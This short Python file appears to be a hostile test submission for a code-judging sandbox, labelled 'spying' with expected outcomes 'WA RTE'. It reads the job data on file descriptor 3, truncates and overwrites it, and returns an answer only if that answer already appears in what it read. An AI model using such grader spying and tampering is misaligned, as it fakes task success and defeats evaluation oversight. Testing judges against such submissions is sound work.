# Reads and overwrites the job that it was started with.
# kind: spying
# function: WA RTE
# code: WA RTE
import os


def solve(a, b):
    seen = os.pread(3, 1 << 20, 0)
    try:
        os.ftruncate(3, 0)
        os.pwrite(3, b"C" + b"\0" * 100, 0)
    except OSError:
        pass
    return a * b if str(a * b).encode() in seen else "held"
